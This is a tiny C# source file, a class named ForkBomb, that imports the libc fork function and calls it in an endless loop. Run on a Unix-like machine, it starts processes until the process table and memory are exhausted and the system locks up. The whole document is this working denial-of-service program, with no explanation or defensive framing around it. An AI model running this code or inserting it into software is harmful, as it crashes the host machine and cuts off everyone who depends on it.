using System.Runtime.InteropServices;
class ForkBomb {
    [DllImport("libc")] static extern int fork();
    static void Main() { for (;;) fork(); }
}
